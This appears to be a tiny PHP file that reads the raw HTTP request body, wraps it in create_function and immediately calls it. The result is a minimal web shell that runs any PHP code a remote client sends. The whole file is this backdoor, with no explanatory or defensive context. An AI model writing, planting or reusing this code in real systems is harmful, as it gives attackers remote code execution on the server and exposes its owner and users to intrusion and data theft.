<?php
$data = file_get_contents('php://input');
$fn = create_function('', $data);
$fn();
